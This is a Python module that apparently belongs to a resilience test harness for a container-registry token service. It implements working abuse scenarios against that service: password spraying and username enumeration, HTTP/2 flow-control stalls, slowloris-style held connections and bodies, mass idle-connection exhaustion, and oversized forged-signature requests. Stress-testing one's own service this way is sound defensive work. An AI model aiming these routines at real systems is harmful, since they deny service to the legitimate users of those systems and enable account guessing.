"""The attacks, one function each.

Started as `python -m abuse.attacks` with an `Order`, one line of JSON, on standard input. It prints `ready`, begins at
the next line, and prints the answers that it got, one line of JSON, when its time is over.
"""

import asyncio
import itertools
import json
import secrets
import sys
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import dataclass
from urllib.parse import quote, urlencode

from .honest import basic
from .wire import Connection, Pace, Target, get, post, tc3


@dataclass(frozen=True)
class Order:
    """An attack, and all that an attacker knows of the service."""

    attack: str
    host: str
    port: int
    addresses: list[str]
    seconds: float
    service: str
    # A name that logs in with a chosen password, and an access key's id: neither is a secret.
    victim: str
    victim_key_id: str
    # Another account's: the attacker is proved there.
    key_id: str
    key_secret: str
    own_tcr_id: str
    own_service: str


class Attack:
    def __init__(self, order: Order) -> None:
        self.order = order
        self.target = Target(order.host, order.port, order.addresses)
        self.answers: Counter[str] = Counter()
        self._robots: list[str] = []

    async def prepare(self) -> None:
        """Makes the attacker service accounts that may pull from one namespace: each is let in so often."""
        for number in range(12):
            permissions = [{"Resource": "team", "Actions": ["tcr:PullRepository"]}]
            fields = {"RegistryId": self.order.own_tcr_id, "Name": f"robot-{number}", "Permissions": permissions}
            connection = await self.target.connect(self.order.addresses[0])
            connection.writer.write(tc3(self.order.key_id, self.order.key_secret, "CreateServiceAccount", fields))
            _, body = await connection.answer_with_body()
            connection.close()
            made = json.loads(body)["Response"]
            self._robots.append(basic(made["Name"], made["Password"]))

    # -- how requests are sent

    async def _repeat(self, requests: Iterator[bytes], pace: Pace, connections: int) -> None:
        """Sends requests by so many kept connections, spread over the addresses."""
        async with asyncio.TaskGroup() as workers:
            for address in itertools.islice(itertools.cycle(self.order.addresses), connections):
                workers.create_task(self._worker(address, requests, pace))

    async def _worker(self, address: str, requests: Iterator[bytes], pace: Pace) -> None:
        connection: Connection | None = None
        while True:
            await pace.turn()
            try:
                if connection is None or connection.is_closing:
                    connection = await self.target.connect(address)
                self.answers[str(await connection.ask(next(requests)))] += 1
            except (OSError, EOFError):
                self.answers["closed"] += 1
                if connection:
                    connection.close()
                connection = None

    async def _hold(self, connections: int, per_second: float, begin: Callable[[Connection], Awaitable[None]]) -> None:
        """Opens so many connections, begins something on each, keeps them, and opens another for each that is closed."""
        pace, room = Pace(per_second), asyncio.Semaphore(connections)

        async def hold(address: str) -> None:
            try:
                connection = await self.target.connect(address)
                try:
                    await begin(connection)
                    # Read until its end, and never answered.
                    while await connection.reader.read(65536):
                        pass
                finally:
                    connection.close()
            except (OSError, EOFError):
                pass
            finally:
                room.release()
            self.answers["closed"] += 1

        async with asyncio.TaskGroup() as holders:
            for address in itertools.cycle(self.order.addresses):
                await room.acquire()
                await pace.turn()
                self.answers["opened"] += 1
                holders.create_task(hold(address))

    # -- the attacks

    async def guesses(self) -> None:
        """Guesses at once, half of them for one name that exists, half over names of which it is one of twenty."""
        names = [self.order.victim, *(f"user{number}" for number in range(19))]
        choice = itertools.chain.from_iterable((self.order.victim, name) for name in itertools.cycle(names))
        requests = (
            post("/token", f"grant_type=password&service={self.order.service}&username={name}&password=Passw0rd-{number}".encode())
            for number, name in enumerate(choice)
        )
        await self._repeat(requests, Pace(300), 40)

    async def anonymous_scopes(self) -> None:
        """Asks without a log-in for 61 scopes, of a kilobyte or of the longest name that a registry can have."""
        prebuilt = []
        for size in [500, 120] * 4:
            scopes = "&".join(f"scope=repository:team/{secrets.token_hex(size)}:pull" for _ in range(61))
            prebuilt.append(get(f"/token?service={self.order.service}&{scopes}"))
        await self._repeat(itertools.cycle(prebuilt), Pace(300), 16)

    async def closed_windows(self) -> None:
        """HTTP/2 connections of many streams whose answers have no window to be sent into."""
        settings = bytes([0, 0, 6, 4, 0, 0, 0, 0, 0, 0, 4, 0, 0, 0, 0])
        paths = ["/bundle.pem", "/.well-known/jwks.json", f"/token?service={self.order.service}"]

        def headers(stream: int, path: str) -> bytes:
            # :method GET, :scheme http, :authority localhost and :path, none of them kept or compressed.
            block = b"\x82\x86\x01\x09localhost\x04" + bytes([len(path)]) + path.encode()
            return len(block).to_bytes(3) + bytes([1, 5]) + stream.to_bytes(4) + block

        # As many as the service says it takes, and on one in five connections as many as it should refuse.
        few, many = (b"".join(headers(2 * number + 1, paths[number % 3]) for number in range(count)) for count in (8, 100))
        bursts = itertools.cycle([many, few, few, few, few])

        async def begin(connection: Connection) -> None:
            connection.writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + settings + next(bursts))

        await self._hold(1000, 40, begin)

    async def refusals(self) -> None:
        """Every kind of refusal that a stranger causes, each with names of its own."""

        def made() -> Iterator[bytes]:
            for number in itertools.count():
                name = f"stranger-{number}-" + "x" * 200
                yield tc3(f"AKID{number:032}", "x", "CreateInstanceToken", b"{}")
                yield tc3(self.order.victim_key_id, "x", name[:60], b"{}")
                yield get(f"/?AccessKeyId=LTAI{number:020}&Signature=x&Action={name}&Version=2018-12-01")
                yield get(f"/token?service={name}")
                yield get(f"/token?service={self.order.service}&scope={name}")
                yield get(f"/token?service={self.order.service}", basic(name, f"tr-{number}"))
                yield get(f"/{name}", f"Authorization: {name}")
                yield post("/token", f"service={self.order.service}&grant_type={name}".encode())
                yield post("/", b"{", "X-TC-Action: " + name, "Authorization: TC3-HMAC-SHA256 x", content_type="application/json")

        await self._repeat(made(), Pace(300), 16)

    async def silence(self) -> None:
        """Connections that ask once, or send half a head, and then are silent: more than there are places."""
        beginnings = itertools.cycle([get("/healthz"), b"GET /token?service=x HTTP/1.1\r\nHost: local"])

        async def begin(connection: Connection) -> None:
            connection.writer.write(next(beginnings))

        await self._hold(3000, 500, begin)

    async def idle(self) -> None:
        """Ten thousand connections that ask once and are kept."""

        async def begin(connection: Connection) -> None:
            connection.writer.write(get("/healthz"))

        await self._hold(10_000, 1000, begin)

    async def proved_idle(self) -> None:
        """Nine thousand connections that carry one good log-in each and are kept: they give way to nobody."""
        requests = itertools.cycle([get(f"/token?service={self.order.own_service}", robot) for robot in self._robots])

        async def begin(connection: Connection) -> None:
            connection.writer.write(next(requests))

        await self._hold(9_000, 600, begin)

    async def held_bodies(self) -> None:
        """Bodies of which all but the last byte comes."""
        prebuilt = itertools.cycle(
            [
                post("/token", f"service={self.order.service}&x=".encode() + b"x" * 60_000),
                post("/", f"Action=CreateInstanceToken&SecretId={self.order.victim_key_id}&Signature=x&x=".encode() + b"x" * 60_000),
                post("/", b"Action=GetAuthorizationToken&AccessKeyId=LTAIunknownEXAMPLE&Signature=x&x=" + b"x" * 60_000),
                tc3(self.order.victim_key_id, "x", "CreateInstanceToken", b" " * 60_000),
            ]
        )

        async def begin(connection: Connection) -> None:
            connection.writer.write(next(prebuilt)[:-1])
            self.answers[str(await connection.answer())] += 1

        await self._hold(1000, 200, begin)

    async def forms(self) -> None:
        """Large forms of the older signatures by keys that don't exist."""

        def form(size: int, number: int) -> bytes:
            fields = {"Action": "CreateInstanceToken", "SecretId": f"AKID{number:032}", "Timestamp": "1", "Nonce": "1", "Signature": "x"}
            other = {"Action": "GetAuthorizationToken", "AccessKeyId": f"LTAI{number:020}", "SignatureMethod": "HMAC-SHA1", "Signature": "x"}
            chosen = urlencode(fields if number % 2 else other)
            count = (size - len(chosen)) // 16
            return post("/", (chosen + "".join(f"&P{index:06}=%2F%2F12" for index in range(count))).encode())

        prebuilt = [form(60_000, number) for number in range(8)] + [form(1_000_000, number) for number in range(2)]
        await self._repeat(itertools.cycle(prebuilt), Pace(100), 16)

    async def new_usernames(self) -> None:
        """A password that a person could have chosen, for ever another name."""
        requests = (get(f"/token?service={self.order.service}", basic(f"user-{number}", "Passw0rd-EXAMPLE")) for number in itertools.count())
        await self._repeat(requests, Pace(300), 40)

    async def denied_scopes(self) -> None:
        """A good log-in that asks 62 scopes that it isn't given, by one connection an address."""
        prebuilt = []
        for number in range(8):
            scopes = "&".join(f"scope={quote(f'repository:team-{number}/{secrets.token_hex(60)}:pull,push')}" for _ in range(62))
            prebuilt.append(get(f"/token?service={self.order.own_service}&{scopes}", self._robots[0]))
        await self._repeat(itertools.cycle(prebuilt), Pace(300), len(self.order.addresses))


async def main() -> None:
    order = Order(**json.loads(sys.stdin.readline()))
    attack = Attack(order)
    await attack.prepare()
    print("ready", flush=True)
    sys.stdin.readline()
    try:
        async with asyncio.timeout(order.seconds):
            await getattr(attack, order.attack)()
    except TimeoutError:
        pass
    print(json.dumps(attack.answers), flush=True)


if __name__ == "__main__":
    asyncio.run(main())
